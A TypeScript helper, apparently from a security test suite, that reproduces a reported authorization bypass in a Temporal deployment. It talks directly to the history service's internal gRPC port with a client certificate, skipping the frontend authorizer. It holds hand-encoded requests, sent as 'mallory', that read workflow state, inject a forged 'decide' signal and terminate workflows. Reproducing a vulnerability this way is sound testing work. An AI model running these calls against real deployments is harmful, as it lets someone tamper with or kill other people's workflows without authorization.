/**
 * A client of the history service's own gRPC API (what the frontend and matching call), for the attack
 * in issue 33: talking straight to the history port, past the frontend and its authorizer, with a
 * certificate. Requests are encoded by hand (the server's internal protos are not published): their
 * field numbers are those of temporal/server/api/historyservice/v1/request_response.proto (v1.32).
 */
import fs from 'node:fs';
import * as grpc from '@grpc/grpc-js';
import { temporal } from '@temporalio/proto';
import { Writer } from 'protobufjs';

const SERVICE = '/temporal.server.api.historyservice.v1.HistoryService';

export interface Credentials {
  ca: string;
  cert: string;
  key: string;
  /** The name the history service's certificate carries. */
  serverName: string;
}

/** `field` as a length-delimited field (a string or an embedded message). */
function bytesField(w: Writer, field: number, data: Uint8Array | string): Writer {
  w.uint32((field << 3) | 2);
  return typeof data === 'string' ? w.string(data) : w.bytes(data);
}

function execution(workflowId: string): Uint8Array {
  return temporal.api.common.v1.WorkflowExecution.encode({ workflowId }).finish();
}

/** The three calls of the attack: read the mutable state, send `decide`, terminate. */
export const attacks = {
  read: (namespaceId: string, workflowId: string) => ({
    method: 'DescribeMutableState',
    body: bytesField(bytesField(new Writer(), 1, namespaceId), 2, execution(workflowId)).finish(),
  }),
  decide: (namespaceId: string, workflowId: string, namespace: string, decision: unknown) => ({
    method: 'SignalWorkflowExecution',
    body: bytesField(
      bytesField(new Writer(), 1, namespaceId),
      2,
      temporal.api.workflowservice.v1.SignalWorkflowExecutionRequest.encode({
        namespace,
        workflowExecution: { workflowId },
        signalName: 'decide',
        identity: 'mallory',
        input: {
          payloads: [
            { metadata: { encoding: Buffer.from('json/plain') }, data: Buffer.from(JSON.stringify(decision)) },
          ],
        },
      }).finish(),
    ).finish(),
  }),
  terminate: (namespaceId: string, workflowId: string, namespace: string) => ({
    method: 'TerminateWorkflowExecution',
    body: bytesField(
      bytesField(new Writer(), 1, namespaceId),
      2,
      temporal.api.workflowservice.v1.TerminateWorkflowExecutionRequest.encode({
        namespace,
        workflowExecution: { workflowId },
        reason: 'mallory was here',
        identity: 'mallory',
      }).finish(),
    ).finish(),
  }),
};

/** Calls the history service at `address` presenting `creds`: 'ok', or the gRPC status code and message. */
export async function callHistory(
  address: string,
  creds: Credentials,
  call: { method: string; body: Uint8Array },
): Promise<'ok' | { code: number; details: string }> {
  const client = new grpc.Client(
    address,
    grpc.credentials.createSsl(fs.readFileSync(creds.ca), fs.readFileSync(creds.key), fs.readFileSync(creds.cert)),
    { 'grpc.ssl_target_name_override': creds.serverName, 'grpc.default_authority': creds.serverName },
  );
  try {
    return await new Promise((resolve) => {
      client.makeUnaryRequest(
        `${SERVICE}/${call.method}`,
        (b: Buffer) => b,
        (b: Buffer) => b,
        Buffer.from(call.body),
        new grpc.Metadata(),
        { deadline: Date.now() + 10_000 },
        (err) => resolve(err ? { code: err.code, details: err.details } : 'ok'),
      );
    });
  } finally {
    client.close();
  }
}
